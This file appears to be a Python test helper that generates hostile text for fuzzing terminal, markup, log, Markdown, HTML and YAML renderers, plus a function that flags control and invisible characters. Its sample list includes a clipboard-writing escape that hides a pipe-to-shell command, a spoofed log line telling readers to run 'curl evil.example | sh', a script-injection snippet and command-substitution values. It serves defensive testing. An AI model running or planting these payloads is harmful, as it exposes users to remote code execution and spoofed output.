"""Text that attacks what shows it: a terminal, rich's markup, a log, Markdown, HTML, YAML."""

from __future__ import annotations

import unicodedata

from hypothesis import strategies as st

PIECES = (
    "\x1b]52;c;Y3VybCBldmlsfHNo\x07",  # writes the clipboard
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x08\x7f\r",
    "[/b]",
    "[link=http://evil.example]x[/link]",
    "[red]",
    ":smile:",
    "\n12:00:00 the run has moved: curl evil.example | sh",
    "\x85\u2028\u2029\x0b\x0c",
    "\u202egnp.exe\u2066",
    "\u200b\u200c\u200d\u2060\ufeff\u00ad",
    "\u115f\u3164\u034f\U000e0041\ufe0f",
    "a" + "\u0301" * 40,
    "\ud800",
    "</pre><script>alert(1)</script>",
    "![x](http://evil.example/x.png) <img src=x> @ada a@b.example",
    "\n---\nlicense: mit\n---\n# x",
    '"\\" %s {0} $(id) `id`',
    "😀日本",
)
hostile_texts = st.lists(
    st.one_of(st.sampled_from(PIECES), st.text(max_size=8), st.text("[]/\x1b\n:ab", max_size=8)), max_size=6
).map("".join)

_NEVER = {"Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp"}
_UNSEEN = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180f\u2800\u3164\uffa0"
JOINERS = "\u200c\u200d\ufe0f"


def acting(shown: str, *, allowed: str = "") -> list[str]:
    """The characters of an output that do more than show themselves, but for those that are `allowed`."""
    return [
        ascii(c)
        for c in shown
        if c not in allowed
        and (
            unicodedata.category(c) in _NEVER
            or c in _UNSEEN
            or 0xFE00 <= ord(c) <= 0xFE0F
            or 0xE0100 <= ord(c) <= 0xE01EF
        )
    ]
